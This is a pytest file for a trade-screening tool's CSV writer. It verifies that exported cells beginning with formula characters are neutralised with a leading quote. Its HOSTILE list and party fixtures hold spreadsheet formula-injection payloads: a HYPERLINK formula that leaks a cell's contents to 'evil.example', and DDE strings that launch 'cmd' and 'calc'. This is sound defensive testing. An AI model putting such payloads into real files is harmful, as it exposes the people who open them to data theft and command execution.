"""CSV exports neutralise formula injection (:mod:`tradewarden.csv_safe`), and only in text cells.

The batch writer (:class:`tradewarden.batch.io.TableWriter`) is the one place tradewarden writes
CSV: batch results, order results, rejects and ``match --in/--out``. ``tradewarden batch`` is run
end to end over a file of hostile ids and names.
"""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from listfiles import LIST_FILES
from typer.testing import CliRunner

from tradewarden.batch.io import ORDER_SCHEMA, REJECT_SCHEMA, FileFormat, TableWriter, results_table
from tradewarden.cli import app
from tradewarden.csv_safe import neutralise
from tradewarden.settings import get_settings

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_cells_get_a_leading_quote(text: str) -> None:
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("text", ["Rosoboronexport", "", "'=already quoted", " =1", "1-2", "ООО Ромашка", "[]"])
def test_other_text_is_unchanged(text: str) -> None:
    assert neutralise(text) == text


def _read_csv(path: Path) -> list[dict[str, str]]:
    with path.open(newline="", encoding="utf-8") as handle:
        return list(csv.DictReader(handle))


def test_writer_neutralises_text_but_not_numbers(tmp_path: Path) -> None:
    out = tmp_path / "orders.csv"
    writer = TableWriter(out, FileFormat.CSV, ORDER_SCHEMA)
    writer.write(results_table([{
        "id": HOSTILE[0], "decision": "review", "risk_score": -0.5, "reasons": ["=1+1"],
        "findings": [{"code": "X", "category": "c", "severity": "s", "outcome": "o", "title": "@t", "detail": "-d",
                      "subject": "=s", "evidence": []}],
    }], ORDER_SCHEMA))
    writer.close()
    [row] = _read_csv(out)
    assert row["id"] == "'" + HOSTILE[0]
    assert row["risk_score"] == "-0.5"  # a number, not user text
    assert row["decision"] == "review"
    assert json.loads(row["findings"])[0]["subject"] == "=s"  # inside a JSON cell that starts with "["
    assert row["reasons"].startswith("[")


@settings(max_examples=100, deadline=None)
@given(st.lists(st.text(max_size=12) | st.none(), min_size=1, max_size=8))
def test_writer_agrees_with_neutralise(ids: list[str | None]) -> None:
    import tempfile

    with tempfile.TemporaryDirectory() as folder:
        out = Path(folder) / "rejects.csv"
        writer = TableWriter(out, FileFormat.CSV, REJECT_SCHEMA)
        writer.write(results_table([{"line": n, "id": i, "reason": "id: bad"} for n, i in enumerate(ids)], REJECT_SCHEMA))
        writer.close()
        with out.open(newline="", encoding="utf-8") as handle:
            rows = list(csv.reader(handle))[1:]
    # pyarrow writes a null as an empty cell; csv.reader cannot tell "" from null.
    assert [row[1] for row in rows] == [neutralise(i) if i else "" for i in ids]
    assert [int(row[0]) for row in rows] == list(range(len(ids)))


def test_batch_cli_output_and_rejects_are_formula_safe(tmp_path: Path) -> None:
    mirror = tmp_path / "mirror"
    LIST_FILES["ftm"].write(mirror, LIST_FILES["ftm"].content())
    home = tmp_path / "home"
    env = {"TRADEWARDEN_HOME": str(home), "TRADEWARDEN_DATABASE_URL": ""}
    runner = CliRunner()
    get_settings.cache_clear()
    try:
        loaded = runner.invoke(app, ["lists", "update", "--from", str(mirror),
                                     "--no-progress"], env=env)
        assert loaded.exit_code == 0, loaded.output
        parties = tmp_path / "parties.csv"
        with parties.open("w", newline="", encoding="utf-8") as handle:
            writer = csv.writer(handle)
            writer.writerow(["id", "name", "dob"])
            writer.writerow([HOSTILE[0], "Ivan Petrov", ""])
            writer.writerow(["+42", "=cmd|' /C calc'!A0", ""])
            writer.writerow(["@3", "Olga", "=1+1"])  # rejected: dob is not a date
        out = tmp_path / "results.csv"
        result = runner.invoke(app, ["batch", str(parties), "--out", str(out)], env=env)
        assert result.exit_code == 0, result.output
    finally:
        get_settings.cache_clear()
    ids = [row["id"] for row in _read_csv(out)]
    assert ids == ["'" + HOSTILE[0], "'+42"]
    rejects = _read_csv(tmp_path / "results.rejects.csv")
    assert [(row["id"], row["line"]) for row in rejects] == [("'@3", "4")]
    assert rejects[0]["reason"].startswith("dob:")
